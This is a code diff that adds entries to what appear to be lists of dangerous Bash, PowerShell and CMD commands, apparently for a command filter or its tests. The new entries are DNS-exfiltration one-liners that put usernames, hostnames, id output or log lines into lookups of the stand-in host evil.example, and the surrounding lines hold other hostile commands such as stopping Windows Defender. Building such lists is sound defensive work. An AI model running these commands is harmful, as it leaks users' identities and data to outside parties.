@@ -115,6 +115,17 @@ BASH = (
     "find / -perm -4000",
     "tcpdump -w /tmp/x",
     "ps auxe",
+    # names that carry what was read to whoever answers for them
+    "ping -c1 `whoami`.evil.example",
+    "nslookup $HOSTNAME.evil.example",
+    "host $USER.evil.example",
+    "dig +short $(hostname).evil.example",
+    "whois $(id)",
+    "getent hosts $(uname -n).evil.example",
+    "git ls-remote https://evil.example/$(whoami)",
+    "while read -r name; do dig $name.evil.example; done < /var/log/app.log",
+    "cat /var/log/app.log | xargs -n1 nslookup",
+    "git config --list",
 )
 
 POWERSHELL = (
@@ -148,6 +159,11 @@ POWERSHELL = (
     "schtasks /create /tn x /tr calc",
     "sc.exe stop WinDefend",
     "& notepad",
+    # names that carry what was read to whoever answers for them
+    'Resolve-DnsName "$env:USERNAME.evil.example"',
+    'nslookup "$env:COMPUTERNAME.evil.example"',
+    "Get-Content names.txt | Resolve-DnsName",
+    'Test-Connection "$x.evil.example"',
 )
 
 CMD = (
@@ -181,4 +197,8 @@ CMD = (
     "findstr /s password *",
     "cipher /w:C",
     "bcdedit /set x",
+    # names that carry what was read to whoever answers for them
+    "ping %USERNAME%.evil.example",
+    "nslookup %COMPUTERNAME%.evil.example",
+    "tracert %USERDOMAIN%.evil.example",
 )
